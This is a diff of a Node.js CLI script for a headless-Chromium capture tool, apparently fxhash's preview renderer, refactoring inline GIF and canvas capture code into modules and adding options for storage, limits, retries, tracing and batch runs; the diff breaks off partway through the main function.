@@ -1,468 +1,146 @@
 const { Command } = require("commander");
 const fs = require("fs");
-const puppeteer = require("puppeteer-core");
-const sharp = require("sharp");
-const { S3Client, PutObjectCommand } = require("@aws-sdk/client-s3");
-const PNG = require("pngjs").PNG;
-const { GIFEncoder, quantize, applyPalette } = require("gifenc");
-const { performance } = require("perf_hooks");
-
-//
-// DEFINITIONS
-//
-
-const DELAY_MIN = 0;
-const DELAY_MAX = 300000;
-
-// GIF specific constants
-const GIF_DEFAULTS = {
-  FRAME_COUNT: 30,
-  CAPTURE_INTERVAL: 100, // milliseconds between capturing frames
-  PLAYBACK_FPS: 10, // default playback speed in frames per second
-  QUALITY: 10,
-  MIN_FRAMES: 2,
-  MAX_FRAMES: 100,
-  MIN_CAPTURE_INTERVAL: 20,
-  MAX_CAPTURE_INTERVAL: 15000,
-  MIN_FPS: 1,
-  MAX_FPS: 50,
+const {
+  STORAGE_TYPES,
+  STORAGE_DEFAULTS,
+  createStorage,
+  storeCaptureArtifacts,
+  storeDiagnostics,
+} = require("./src/storage");
+const {
+  ERRORS,
+  EXIT_CODES,
+  sleep,
+  resolveCaptureSettings,
+  launchBrowser,
+  capturePage,
+} = require("./src/capture");
+const { SERVER_DEFAULTS, startServer } = require("./src/server");
+const { BATCH_DEFAULTS, readManifest, runBatch } = require("./src/batch");
+const { LIMITS_DEFAULTS } = require("./src/limits");
+const { runWithRetries } = require("./src/retry");
+const { validateConfig, describeSettingsErrors } = require("./src/schema");
+const { createTracer, extractTraceparent, endSpan } = require("./src/tracing");
+const { createReport } = require("./src/report");
+
+// the phases of the runs are recorded as spans, exported to the collector at
+// OPEN_TELEMETRY_TARGET if TRACING_ENABLED is "1"
+const tracer = createTracer({
+  serviceName: "fxhash-capture",
+  target:
+    process.env.TRACING_ENABLED === "1"
+      ? process.env.OPEN_TELEMETRY_TARGET
+      : null,
+});
+
+// stores the result of the run into result.json, next to the preview
+const storeResult = async (storage, result) => {
+  await storage.put("result.json", JSON.stringify(result), "application/json");
+  await storage.finalize();
 };
 
-const ANGLE_MODES = {
-  GL: "gl",
-  GL_EGL: "gl-egl",
-};
-
-// the different capture modes
-const CAPTURE_MODES = ["CANVAS", "VIEWPORT"];
-// the different trigger modes
-const TRIGGER_MODES = ["DELAY", "FN_TRIGGER", "FN_TRIGGER_GIF"];
-// possible output errors
-const ERRORS = {
-  UNKNOWN: "UNKNOWN",
-  HTTP_ERROR: "HTTP_ERROR",
-  MISSING_PARAMETERS: "MISSING_PARAMETERS",
-  INVALID_TRIGGER_PARAMETERS: "INVALID_TRIGGER_PARAMETERS",
-  INVALID_PARAMETERS: "INVALID_PARAMETERS",
-  UNSUPPORTED_URL: "UNSUPPORTED_URL",
-  CANVAS_CAPTURE_FAILED: "CANVAS_CAPTURE_FAILED",
-  TIMEOUT: "TIMEOUT",
-  EXTRACT_FEATURES_FAILED: "EXTRACT_FEATURES_FAILED",
-  INVALID_GIF_PARAMETERS: "INVALID_GIF_PARAMETERS",
-};
-
-//
-// UTILITY FUNCTIONS
-//
-
-// sleep X milliseconds
-const sleep = (time) =>
-  new Promise((resolve) => {
-    setTimeout(resolve, time);
-  });
-
-function validateGifParams(frameCount, captureInterval, playbackFps) {
-  if (
-    frameCount < GIF_DEFAULTS.MIN_FRAMES ||
-    frameCount > GIF_DEFAULTS.MAX_FRAMES
-  ) {
-    return false;
-  }
-  if (
-    captureInterval < GIF_DEFAULTS.MIN_CAPTURE_INTERVAL ||
-    captureInterval > GIF_DEFAULTS.MAX_CAPTURE_INTERVAL
-  ) {
-    return false;
-  }
-  if (
-    playbackFps < GIF_DEFAULTS.MIN_FPS ||
-    playbackFps > GIF_DEFAULTS.MAX_FPS
-  ) {
-    return false;
-  }
-  return true;
-}
-
-async function captureFramesToGif(frames, width, height, playbackFps) {
-  const gif = GIFEncoder();
-  const playbackDelay = Math.round(1000 / playbackFps);
-  console.log(
-    `Creating GIF with playback delay: ${playbackDelay}ms (${playbackFps} FPS)`
-  );
-
-  for (const frame of frames) {
-    let pngData;
-    if (typeof frame === "string") {
-      // For base64 data from canvas
-      const pureBase64 = frame.replace(/^data:image\/png;base64,/, "");
-      const buffer = Buffer.from(pureBase64, "base64");
-      pngData = await new Promise((resolve, reject) => {
-        new PNG().parse(buffer, (err, data) => {
-          if (err) reject(err);
-          resolve(data);
-        });
-      });
-    } else {
-      // For binary data from viewport
-      pngData = await new Promise((resolve, reject) => {
-        new PNG().parse(frame, (err, data) => {
-          if (err) reject(err);
-          resolve(data);
-        });
-      });
-    }
-
-    // Convert to format expected by gifenc
-    const pixels = new Uint8Array(pngData.data);
-    const palette = quantize(pixels, 256);
-    const index = applyPalette(pixels, palette);
-
-    gif.writeFrame(index, width, height, {
-      palette,
-      delay: playbackDelay,
-    });
-  }
-
-  gif.finish();
-  return Buffer.from(gif.bytes());
-}
-
-// generic function which resolves once the waiting conditions to take a preview
-// are met (delay, programmatic trigger)
-const waitPreview = (triggerMode, page, delay) =>
-  new Promise(async (resolve) => {
-    if (triggerMode === "DELAY") {
-      console.log("waiting for delay:", delay);
-      await sleep(delay);
-      resolve();
-    } else if (triggerMode === "FN_TRIGGER") {
-      console.log("waiting for function trigger...");
-      Promise.race([
-        // add event listener and wait for event to fire before returning
-        page.evaluate(function () {
-          return new Promise(function (resolve, reject) {
-            window.addEventListener("fxhash-preview", function () {
-              resolve(); // resolves when the event fires
-            });
-          });
-        }),
-        sleep(DELAY_MAX),
-      ]).then(resolve);
-    }
-  });
-
-async function captureFramesWithTiming(
-  captureFrameFunction,
-  frameCount,
-  captureInterval
-) {
-  const frames = [];
-  let lastCaptureStart = performance.now();
-
-  for (let i = 0; i < frameCount; i++) {
-    // Record start time of screenshot operation
-    const captureStart = performance.now();
-
-    // Use the provided capture function to get the frame
-    const frame = await captureFrameFunction();
-    frames.push(frame);
-
-    // Calculate how long the capture took
-    const captureDuration = performance.now() - captureStart;
-
-    // Calculate the actual time we need to wait
-    // If capture took longer than interval, we'll skip the wait
-    const adjustedInterval = Math.max(0, captureInterval - captureDuration);
-
-    // Log timing information for debugging
-    console.log(`Frame ${i + 1}/${frameCount}:`, {
-      captureDuration,
-      adjustedInterval,
-      totalFrameTime: performance.now() - lastCaptureStart,
-    });
-
-    if (adjustedInterval > 0) {
-      await sleep(adjustedInterval);
-    }
-
-    // Update last capture time for next iteration
-    lastCaptureStart = performance.now();
-  }
-
-  return frames;
-}
-
-async function captureFramesProgrammatically(page, captureFrameFunction) {
-  const frames = [];
-
-  // set up the event listener and capture loop
-  await page.exposeFunction("captureFrame", async () => {
-    const frame = await captureFrameFunction();
-    frames.push(frame);
-    return frames.length;
-  });
-
-  // wait for events in browser context
-  await page.evaluate(
-    function (maxFrames, delayMax) {
-      return new Promise(function (resolve) {
-        const handleFrameCapture = async (event) => {
-          const frameCount = await window.captureFrame();
-
-          if (event.detail?.isLastFrame || frameCount >= maxFrames) {
-            window.removeEventListener(
-              "fxhash-capture-frame",
-              handleFrameCapture
-            );
-            resolve();
-          }
-        };
-
-        window.addEventListener("fxhash-capture-frame", handleFrameCapture);
-
-        // timeout fallback
-        setTimeout(() => {
-          window.removeEventListener(
-            "fxhash-capture-frame",
-            handleFrameCapture
-          );
-          resolve();
-        }, delayMax);
-      });
-    },
-    GIF_DEFAULTS.MAX_FRAMES,
-    DELAY_MAX
-  );
-
-  return frames;
-}
-
-async function captureViewport(
-  page,
-  triggerMode,
-  isGif,
-  frameCount,
-  captureInterval,
-  playbackFps
-) {
-  if (!isGif) {
-    return await page.screenshot();
+// stores the diagnostics of the run, if they were requested. They are stored
+// on a best effort basis, they don't change the outcome of the run
+const storeRunDiagnostics = async (storage, report) => {
+  if (!report.diagnostics) return;
+  try {
+    const artifacts = await storeDiagnostics(storage, report.diagnostics);
+    report.artifacts.push(...artifacts);
+  } catch (err) {
+    console.error("failed to store the diagnostics:", err);
   }
+};
 
-  const captureViewportFrame = async () => {
-    return await page.screenshot({
-      encoding: "binary",
-    });
-  };
-
-  const frames =
-    triggerMode === "FN_TRIGGER_GIF"
-      ? await captureFramesProgrammatically(page, captureViewportFrame)
-      : await captureFramesWithTiming(
-          captureViewportFrame,
-          frameCount,
-          captureInterval
-        );
-
-  const viewport = page.viewport();
-  return await captureFramesToGif(
-    frames,
-    viewport.width,
-    viewport.height,
-    playbackFps
+// starts the span of the run, the child of the span of the given traceparent
+// if any. The phases of the run are recorded as its children
+const startRunSpan = (report, traceparent) => {
+  const span = tracer.startSpan(
+    "capture run",
+    {},
+    extractTraceparent(traceparent)
   );
-}
-
-async function captureCanvas(
-  page,
-  selector,
-  triggerMode,
-  isGif,
-  frameCount,
-  captureInterval,
-  playbackFps
-) {
-  try {
-    if (!isGif) {
-      console.log("converting canvas to PNG with selector:", selector);
-      const base64 = await page.$eval(selector, (el) => {
-        if (!el || el.tagName !== "CANVAS") return null;
-        return el.toDataURL();
-      });
-      if (!base64) throw null;
-      const pureBase64 = base64.replace(/^data:image\/png;base64,/, "");
-      return Buffer.from(pureBase64, "base64");
-    }
-
-    const captureCanvasFrame = async () => {
-      // Get raw pixel data from canvas
-      const base64 = await page.$eval(selector, (el) => {
-        if (!el || el.tagName !== "CANVAS") return null;
-        return el.toDataURL();
-      });
-      if (!base64) throw new Error("Canvas capture failed");
-      return base64;
-    };
-
-    const frames =
-      triggerMode === "FN_TRIGGER_GIF"
-        ? await captureFramesProgrammatically(page, captureCanvasFrame)
-        : await captureFramesWithTiming(
-            captureCanvasFrame,
-            frameCount,
-            captureInterval
-          );
-
-    const dimensions = await page.$eval(selector, (el) => ({
-      width: el.width,
-      height: el.height,
-    }));
-
-    return await captureFramesToGif(
-      frames,
-      dimensions.width,
-      dimensions.height,
-      playbackFps
-    );
-  } catch (e) {
-    console.error(e);
-    throw ERRORS.CANVAS_CAPTURE_FAILED;
-  }
-}
-
-const resizeCanvas = async (image, resX, resY) => {
-  const sharpImage = sharp(image);
-
-  /**
-   * TODO: we should eventually get the canvas width/height from the page context
-   * when running captureCanvas() - can bypass sharp if the image is small enough
-   */
-  // get current image dimensions to check if resize is needed
-  const metadata = await sharpImage.metadata();
-  const currentWidth = metadata.width;
-  const currentHeight = metadata.height;
-
-  // check if current resolution is already <= target resolution
-  if (currentWidth <= resX && currentHeight <= resY) {
-    // no resize needed, return original image
-    return image;
-  }
+  tracer.root = span;
+  report.tracer = tracer;
+  return span;
+};
 
-  return sharpImage.resize(resX, resY, { fit: "inside" }).toBuffer();
+// ends the span of the run and exports the spans, then exits
+const exit = async (span, exitCode, error = null) => {
+  span.setAttributes({ "process.exit_code": exitCode });
+  endSpan(span, error);
+  await tracer.flush();
+  process.exit(exitCode);
 };
 
-// given a trigger mode and an optional delay, returns true or false depending on the
-// validity of the trigger input settings
-function isTriggerValid(triggerMode, delay, playbackFps) {
-  if (!TRIGGER_MODES.includes(triggerMode)) {
-    return false;
+// merges the options of the CLI over the settings of their --config file (a
+// JSON file, or stdin if -). The negatable flags (--no-capture...) only
+// override the config if they are given
+const applyConfig = (options, report) => {
+  let config;
+  try {
+    const file = options.config === "-" ? 0 : options.config;
+    config = JSON.parse(fs.readFileSync(file, "utf8"));
+  } catch (err) {
+    throw report.fail(ERRORS.INVALID_PARAMETERS, err);
   }
-  if (triggerMode === "DELAY") {
-    // delay must be defined if trigger mode is delay
-    return (
-      typeof delay !== undefined &&
-      !isNaN(delay) &&
-      delay >= DELAY_MIN &&
-      delay <= DELAY_MAX
-    );
-  } else if (triggerMode === "FN_TRIGGER_GIF") {
-    return (
-      typeof playbackFps !== undefined &&
-      !isNaN(playbackFps) &&
-      playbackFps >= GIF_DEFAULTS.MIN_FPS &&
-      playbackFps <= GIF_DEFAULTS.MAX_FPS
+  const errors = validateConfig(config);
+  if (errors.length > 0) {
+    throw report.fail(
+      ERRORS.INVALID_PARAMETERS,
+      describeSettingsErrors(errors)
     );
-  } else if (triggerMode === "FN_TRIGGER") {
-    // fn trigger doesn't need any param
-    return true;
   }
-}
-
-// process the raw features extracted into attributes
-function processRawTokenFeatures(rawFeatures) {
-  const features = [];
-  // first check if features are an object
-  if (
-    typeof rawFeatures !== "object" ||
-    Array.isArray(rawFeatures) ||
-    !rawFeatures
-  ) {
-    throw null;
-  }
-  // go through each property and process it
-  for (const name in rawFeatures) {
-    // check if property is accepted type
-    if (
-      !(
-        typeof rawFeatures[name] === "boolean" ||
-        typeof rawFeatures[name] === "string" ||
-        typeof rawFeatures[name] === "number"
-      )
-    ) {
+  const { version, ...settings } = config;
+  const negatable = program.options
+    .filter((option) => option.negate)
+    .map((option) => option.attributeName());
+  const merged = { ...settings };
+  for (const [name, value] of Object.entries(options)) {
+    if (value === undefined) continue;
+    if (negatable.includes(name) && value === true && name in settings) {
       continue;
     }
-    // all good, the feature can be added safely
-    features.push({
-      name,
-      value: rawFeatures[name],
-    });
-  }
-  return features;
-}
-
-const performCapture = async (
-  mode,
-  triggerMode,
-  page,
-  canvasSelector,
-  resX,
-  resY,
-  gif,
-  frameCount,
-  captureInterval,
-  playbackFps
-) => {
-  console.log("performing capture...");
-
-  // if viewport mode, use the native puppeteer page.screenshot
-  if (mode === "VIEWPORT") {
-    // we simply take a capture of the viewport
-    return captureViewport(
-      page,
-      triggerMode,
-      gif,
-      frameCount,
-      captureInterval,
-      playbackFps
-    );
-  }
-  // if the mode is canvas, we need to execute some JS on the client to select
-  // the canvas and generate a dataURL to bridge it in here
-  else if (mode === "CANVAS") {
-    const canvas = await captureCanvas(
-      page,
-      canvasSelector,
-      triggerMode,
-      gif,
-      frameCount,
-      captureInterval,
-      playbackFps
-    );
-    if (resX && resY) return resizeCanvas(canvas, resX, resY);
-    return canvas;
+    merged[name] = value;
   }
+  return merged;
 };
 
 // process the command line arguments
 const program = new Command();
 program
-  .requiredOption("--url <url>", "The URL of the resource to fetch")
-  .requiredOption("--mode <mode>", "The mode of the capture")
+  .option(
+    "--url <url>",
+    "The URL of the resource to fetch (ipfs:// URLs are supported), required unless --serve, --manifest or --bundle"
+  )
+  .option(
+    "--mode <mode>",
+    "The mode of the capture (CANVAS, VIEWPORT, ELEMENT, SVG, FULL_PAGE, FEATURES), required unless --serve or --manifest"
+  )
   .option(
     "--trigger <trigger>",
-    "The trigger mode of the capture (DELAY, FN_TRIGGER, FN_TRIGGER_GIF)"
+    "The trigger mode of the capture (DELAY, FN_TRIGGER, FN_TRIGGER_GIF, FEATURES_READY, SELECTOR, NETWORK_IDLE, FRAMES), conditions can be combined with | (first of) or + (all of)"
   )
   .option("--delay <delay>", "The delay before the capture is taken")
+  .option(
+    "--triggerSelector <triggerSelector>",
+    "The selector of the element awaited by the SELECTOR trigger"
+  )
+  .option(
+    "--idleTime <idleTime>",
+    "The time without any request awaited by the NETWORK_IDLE trigger, in ms (default 500)"
+  )
+  .option(
+    "--triggerFrames <triggerFrames>",
+    "The number of animation frames awaited by the FRAMES trigger"
+  )
+  .option(
+    "--triggerTimeout <triggerTimeout>",
+    "The time after which the capture is taken even if the trigger didn't fire, in ms (default 300000)"
+  )
+  .option(
+    "--no-capture",
+    "Only extract the features and params, shorthand for --mode FEATURES"
+  )
   .option(
     "--resX <resX>",
     "The width of the viewport, in case of mode VIEWPORT"
@@ -473,268 +151,394 @@ program
   )
   .option(
     "--selector <selector>",
-    "The CSS selector to target the CANVAS, in case of a capture"
+    "The CSS selector of the captured element, in case of mode CANVAS, ELEMENT or SVG"
+  )
+  .option("--rasterize", "Rasterize SVG captures into a PNG")
+  .option(
+    "--composite",
+    "Flatten every canvas matching the selector in DOM order, in case of mode CANVAS"
+  )
+  .option(
+    "--readback",
+    "Hook the WebGL/WebGPU contexts to read back their last frame, in case of mode CANVAS"
+  )
+  .option(
+    "--allowBlank",
+    "Accept captures where every pixel has the same color"
+  )
+  .option(
+    "--scale <scale>",
+    "The device scale factor of the page, from 1 to 4 (default 1)"
+  )
+  .option(
+    "--tiled",
+    "Capture the viewport in tiles, which allows resolutions up to 8192"
   )
   .option("--gif", "Create an animated GIF instead of a static image")
+  .option(
+    "--format <format>",
+    "Create an animation of the given format (GIF, WEBP, APNG, MP4, WEBM)"
+  )
   .option("--frameCount <frameCount>", "Number of frames for GIF")
   .option(
     "--captureInterval <captureInterval>",
     "Interval between frames for GIF"
   )
   .option("--playbackFps <playbackFps>", "Playback speed for GIF")
+  .option(
+    "--gifQuality <gifQuality>",
+    "Pixel sampling interval of the GIF palettes, from 1 (best) to 30"
+  )
+  .option(
+    "--gifPalette <gifPalette>",
+    "How GIF palettes are built (FRAME: one per frame, GLOBAL: shared)"
+  )
+  .option(
+    "--gifDither <gifDither>",
+    "The GIF dithering mode (NONE, FLOYD_STEINBERG, ORDERED)"
+  )
+  .option("--gifTransparent", "Preserve the transparency in GIF outputs")
+  .option("--seed <seed>", "Seed Math.random with a fixed value")
+  .option(
+    "--fxhash <fxhash>",
+    "Force the hash given to the fxhash snippet (and so the seed of fxrand)"
+  )
+  .option(
+    "--virtualClock",
+    "Replace the page clock with a virtual one, which advances frame by frame"
+  )
+  .option(
+    "--clockFps <clockFps>",
+    "The frame rate of the virtual clock, defaults to 60"
+  )
+  .option(
+    "--renditions <renditions>",
+    "A JSON list of renditions derived from the capture: [{ name, width, height, fit, format, quality }]"
+  )
+  .option(
+    "--compare <compare>",
+    "A reference PNG (path or URL) the capture is compared to"
+  )
+  .option(
+    "--compareThreshold <compareThreshold>",
+    "The max color distance of identical pixels, from 0 to 1 (default 0.1)"
+  )
+  .option(
+    "--compareMinSimilarity <compareMinSimilarity>",
+    "The min ratio of identical pixels to pass, from 0 to 1 (default 0.999)"
+  )
+  .option(
+    "--bundle <bundle>",
+    "Serve the project from a directory or a tar/zip archive, --url is then relative to it (index.html by default)"
+  )
+  .option(
+    "--ipfsGateway <ipfsGateway>",
+    "Rewrite the IPFS URLs requested by the page to this gateway"
+  )
+  .option(
+    "--allowHosts <allowHosts>",
+    "A comma-separated list of the hosts the page can reach (*.example.com for subdomains), the others are blocked"
+  )
+  .option(
+    "--maxHeap <maxHeap>",
+    "The max size of the JS heap of the page in MB (default 2048)"
+  )
+  .option(
+    "--timeBudget <timeBudget>",
+    "The max duration of the whole run in ms (default 600000)"
+  )
+  .option(
+    "--maxRequests <maxRequests>",
+    "The max number of requests sent by the page (default 2000)"
+  )
+  .option(
+    "--maxBytes <maxBytes>",
+    "The max number of bytes downloaded by the page (default 512MB)"
+  )
+  .option(
+    "--watchdogTimeout <watchdogTimeout>",
+    "The time in ms after which a page which doesn't respond is considered stuck in an infinite loop (default 30000)"
+  )
+  .option(
+    "--diagnostics",
+    "Collect the console, page errors, failed requests, GPU info, frame timings and a performance trace of the page into diagnostics.json"
+  )
   .option(
     "--angleMode <angleMode>",
-    "The angle mode to use for the capture (GL, GL_EGL)"
+    "The angle mode to use for the capture (gl, gl-egl, swiftshader)"
+  )
+  .option(
+    "--retries <retries>",
+    "The number of times the run is retried on transient errors (TIMEOUT, HTTP 5xx, BLANK_CAPTURE), from 0 (default) to 5"
+  )
+  .option(
+    "--retryDelay <retryDelay>",
+    "The delay before a run is retried, in ms (default 1000)"
+  )
+  .option(
+    "--rendererFallback",
+    "Retry the runs which failed because of the renderer with the next one of gl-egl, gl and swiftshader"
+  )
+  .option(
+    "--traceparent <traceparent>",
+    "The W3C trace context the spans of the run are the children of, defaults to TRACEPARENT"
+  )
+  .option(
+    "--config <config>",
+    "A JSON file (- for stdin) holding the capture settings, the other options override them"
+  )
+  .option(
+    "--output <output>",
+    "The storage backend of the artifacts (S3, FS, STDOUT)"
+  )
+  .option(
+    "--outputDir <outputDir>",
+    "The directory where artifacts are written, in case of output FS"
+  )
+  .option(
+    "--outputKey <outputKey>",
+    "The key under which artifacts are stored, defaults to AWS_BATCH_JOB_ID"
+  )
+  .option(
+    "--s3Endpoint <s3Endpoint>",
+    "A custom S3 endpoint (MinIO...), defaults to AWS_S3_ENDPOINT"
+  )
+  .option(
+    "--serve",
+    "Start an HTTP capture server instead of running a single capture"
+  )
+  .option("--port <port>", "The port of the capture server")
+  .option(
+    "--poolSize <poolSize>",
+    "The number of browsers kept warm by the capture server"
+  )
+  .option(
+    "--concurrency <concurrency>",
+    "The max number of captures run at the same time by the capture server"
+  )
+  .option(
+    "--manifest <manifest>",
+    "A JSON/JSONL file listing the captures to run, the other capture options are used as defaults for each item"
+  )
+  .option(
+    "--parallelism <parallelism>",
+    "The number of manifest items captured at the same time"
   );
 
 program.parse(process.argv);
 
 const main = async () => {
-  // global definitions
-  let capture,
-    captureName,
-    features = [];
+  const report = createReport();
+  const span = startRunSpan(
+    report,
+    program.opts().traceparent || process.env.TRACEPARENT
+  );
+  let storage;
 
   try {
-    let {
-      url,
-      mode,
-      trigger: triggerMode,
-      delay,
-      resX,
-      resY,
-      selector,
-      gif = false,
-      frameCount = GIF_DEFAULTS.FRAME_COUNT,
-      captureInterval = GIF_DEFAULTS.CAPTURE_INTERVAL,
-      playbackFps = GIF_DEFAULTS.PLAYBACK_FPS,
-      angleMode = ANGLE_MODES.GL_EGL,
-    } = program.opts();
+    const options = program.opts();
+
+    // in serve mode, the process lives until it receives a termination signal
+    if (options.serve) {
+      await startServer({
+        port: parseInt(options.port || SERVER_DEFAULTS.PORT),
+        poolSize: parseInt(options.poolSize || SERVER_DEFAULTS.POOL_SIZE),
+        concurrency: parseInt(
+          options.concurrency || SERVER_DEFAULTS.CONCURRENCY
+        ),
+        angleMode: options.angleMode,
+      });
+      return;
+    }
 
-    console.log("running capture with params:", {
-      url,
-      mode,
-      resX,
-      resY,
-      triggerMode,
-      delay,
-      selector,
-      gif,
-      frameCount,
-      captureInterval,
-      playbackFps,
-      angleMode,
-    });
+    const {
+      output = STORAGE_DEFAULTS.TYPE,
+      outputDir = STORAGE_DEFAULTS.OUTPUT_DIR,
+      outputKey = process.env.AWS_BATCH_JOB_ID,
+      s3Endpoint = process.env.AWS_S3_ENDPOINT,
+    } = options;
 
-    // default parameter for triggerMode
-    if (typeof triggerMode === "undefined") {
-      triggerMode = "DELAY";
+    // the JSON envelope is written to stdout, so logs must go elsewhere
+    if (output === STORAGE_TYPES.STDOUT) {
+      console.log = console.error;
     }
 
-    //
-    // Checking parameters validity
-    //
+    console.log("running capture with params:", {
+      ...options,
+      output,
+      outputKey,
+    });
 
-    // general parameters
-    if (!url || !mode) {
-      throw ERRORS.MISSING_PARAMETERS;
-    }
-    if (!CAPTURE_MODES.includes(mode)) {
+    if (!Object.values(STORAGE_TYPES).includes(output)) {
       throw ERRORS.INVALID_PARAMETERS;
     }
-    if (!isTriggerValid(triggerMode, delay, playbackFps)) {
-      throw ERRORS.INVALID_TRIGGER_PARAMETERS;
-    }
 
-    // validate GIF parameters if GIF mode is enabled
-    if (gif && !validateGifParams(frameCount, captureInterval, playbackFps)) {
-      throw ERRORS.INVALID_GIF_PARAMETERS;
+    // instanciate the storage early, so that missing output settings are
+    // reported before any capture work is done, and so that the result of
+    // the run can be stored even if the parameters are invalid
+    try {
+      storage = createStorage(output, {
+        key: outputKey,
+        dir: outputDir,
+        bucket: process.env.AWS_S3_BUCKET,
+        region: process.env.AWS_S3_REGION,
+        endpoint: s3Endpoint,
+      });
+    } catch (err) {
+      console.log(err);
+      throw report.fail(ERRORS.MISSING_PARAMETERS, err);
     }
 
-    if (resX) resX = Math.round(resX);
-    if (resY) resY = Math.round(resY);
+    // the capture settings, read once the storage is ready so that an invalid
+    // config is reported in the result
+    const settingsOptions = options.config
+      ? applyConfig(options, report)
+      : options;
 
-    // parameters based on selected mode
-    if (mode === "VIEWPORT") {
-      if (!resX || !resY) {
-        throw ERRORS.MISSING_PARAMETERS;
-      }
+    if (options.manifest) {
+      const parallelism = parseInt(
+        options.parallelism || BATCH_DEFAULTS.PARALLELISM
+      );
       if (
-        isNaN(resX) ||
-        isNaN(resY) ||
-        resX < 256 ||
-        resX > 2048 ||
-        resY < 256 ||
-        resY > 2048
+        isNaN(parallelism) ||
+        parallelism < 1 ||
+        parallelism > BATCH_DEFAULTS.MAX_PARALLELISM
       ) {
         throw ERRORS.INVALID_PARAMETERS;
       }
-      if (delay < DELAY_MIN || delay > DELAY_MAX) {
-        throw ERRORS.INVALID_PARAMETERS;
-      }
-    } else if (mode === "CANVAS") {
-      if (!selector) {
-        throw ERRORS.INVALID_PARAMETERS;
-      }
-    }
 
-    console.log("bootstrapping chromium...");
-
-    const browser = await puppeteer.launch({
-      headless: true,
-      args: [
-        "--no-sandbox",
-        "--disable-setuid-sandbox",
-        "--disable-dev-shm-usage",
-        "--enable-logging",
-        "--use-gl=angle",
-        `--use-angle=${angleMode}`,
-        "--use-cmd-decoder=passthrough",
-        // enable webgpu
-        "--enable-unsafe-webgpu",
-        "--use-webgpu-adapter=opengles",
-      ],
-      executablePath: process.env.PUPPETEER_EXECUTABLE_PATH,
-    });
+      const items = await readManifest(options.manifest);
+      console.log(`running a batch of ${items.length} captures...`);
 
-    console.log("configuring page...");
+      const summary = await runBatch(items, {
+        defaults: settingsOptions,
+        storage,
+        parallelism,
+        angleMode: options.angleMode,
+      });
 
-    // browse to the page
-    const viewportSettings = {
-      deviceScaleFactor: 1,
-    };
-    if (mode === "VIEWPORT") {
-      viewportSettings.width = resX;
-      viewportSettings.height = resY;
-    } else {
-      viewportSettings.width = 800;
-      viewportSettings.height = 800;
+      await storage.put(
+        "summary.json",
+        JSON.stringify(summary),
+        "application/json"
+      );
+      await storage.finalize();
+
+      console.log(
+        `batch processed: ${summary.succeeded} succeeded, ${summary.failed} failed`
+      );
+      await exit(
+        span,
+        summary.failed > 0 ? EXIT_CODES.UNKNOWN : EXIT_CODES.SUCCESS
+      );
     }
-    let page = await browser.newPage();
-    await page.setViewport(viewportSettings);
 
-    page.on("console", (msg) => console.log("PAGE LOG:", msg.text()));
+    // throws if the capture parameters are invalid
+    const settings = resolveCaptureSettings(settingsOptions, report);
+    span.setAttributes({
+      "capture.url": settings.url,
+      "capture.mode": settings.mode,
+    });
 
-    // try to reach the page
-    let response;
-    try {
-      console.log("navigating to: ", url);
-      response = await page.goto(url, {
-        timeout: 200000,
-        waitUntil: "domcontentloaded",
-      });
-      console.log(
-        `navigated to URL with response status: ${response.status()}`
+    // the budget is enforced during the capture, this is a last resort in
+    // case the run hangs outside of it (between attempts, storage...). It's
+    // counted on the same clock, from the opening of the first page: until
+    // then, or while time is left, the timer is armed again
+    const { timeBudget, maxHeap } = settings.limits;
+    const budgetLeft = () =>
+      timeBudget - report.budgetElapsed() + LIMITS_DEFAULTS.GRACE_PERIOD;
+    const armHardExit = () =>
+      setTimeout(
+        () => (budgetLeft() > 0 ? armHardExit() : hardExit()),
+        budgetLeft()
+      ).unref();
+    const hardExit = async () => {
+      console.error(`the run took more than ${timeBudget}ms, exiting`);
+      const code = report.fail(
+        ERRORS.TIME_BUDGET_EXCEEDED,
+        `the run took more than ${timeBudget}ms`
       );
-    } catch (err) {
-      console.log(err);
-      if (err && err.name && err.name === "TimeoutError") {
-        throw ERRORS.TIMEOUT;
-      } else {
-        throw ERRORS.UNKNOWN;
+      try {
+        // the storage may be what hangs
+        await Promise.race([
+          storeResult(storage, report.toResult(code, EXIT_CODES[code])),
+          sleep(LIMITS_DEFAULTS.GRACE_PERIOD),
+        ]);
+      } catch (err) {
+        console.error("failed to store the result:", err);
       }
-    }
+      await exit(span, EXIT_CODES[code], code);
+    };
+    armHardExit();
 
-    // if the response is not 200 (success), we want to throw
-    if (response.status() !== 200) {
-      throw ERRORS.HTTP_ERROR;
-    }
+    // each attempt runs in a new browser, as the renderer may change
+    const result = await runWithRetries(settings, report, async (angleMode) => {
+      console.log(`bootstrapping chromium (${angleMode})...`);
 
-    try {
-      if (triggerMode === "FN_TRIGGER_GIF") {
-        // for FN_TRIGGER_GIF mode, skip preview waiting entirely
-        // the capture functions will handle event listening internally
-        console.log("Using FN_TRIGGER_GIF mode - skipping preview wait");
-      } else {
-        await waitPreview(triggerMode, page, delay);
+      let browser;
+      try {
+        browser = await report.time("launch", () =>
+          launchBrowser(angleMode, maxHeap)
+        );
+      } catch (err) {
+        console.log(err);
+        throw report.fail(ERRORS.BROWSER_LAUNCH_FAILED, err);
+      }
+      try {
+        // a browser which can't open a page (its renderer crashed at startup)
+        // failed to launch as well
+        let page;
+        try {
+          page = await browser.newPage();
+        } catch (err) {
+          console.log(err);
+          throw report.fail(ERRORS.BROWSER_LAUNCH_FAILED, err);
+        }
+        return await capturePage(page, settings, report);
+      } finally {
+        // call for the close of the browser, but don't wait for it
+        browser.close();
       }
+    });
+    span.setAttributes({ "capture.attempts": report.attempts.length });
+    console.log(`storing artifacts (${storage.type})...`);
 
-      capture = await performCapture(
-        mode,
-        triggerMode,
-        page,
-        selector,
-        resX,
-        resY,
-        gif,
-        frameCount,
-        captureInterval,
-        playbackFps
+    try {
+      const artifacts = await report.time("storage", () =>
+        storeCaptureArtifacts(storage, result)
       );
+      report.artifacts.push(...artifacts);
     } catch (err) {
       console.log(err);
-      throw ERRORS.CANVAS_CAPTURE_FAILED;
-    }
-
-    // EXTRACT FEATURES
-    console.log("extracting features...");
-    // find $fxhashFeatures in the window object
-    let rawFeatures = null;
-    try {
-      const extractedFeatures = await page.evaluate(() => {
-        // v3 syntax
-        if (window.$fx?._features) return JSON.stringify(window.$fx._features);
-        // deprecated syntax
-        return JSON.stringify(window.$fxhashFeatures);
-      });
-      rawFeatures =
-        (extractedFeatures && JSON.parse(extractedFeatures)) || null;
-    } catch (e) {
-      console.log("Failed to extract features:");
-      console.log(e);
-      // throw ERRORS.EXTRACT_FEATURES_FAILED;
+      throw report.fail(ERRORS.STORAGE_FAILED, err);
     }
+    await storeRunDiagnostics(storage, report);
 
-    // turn raw features into attributes
-    try {
-      features = processRawTokenFeatures(rawFeatures);
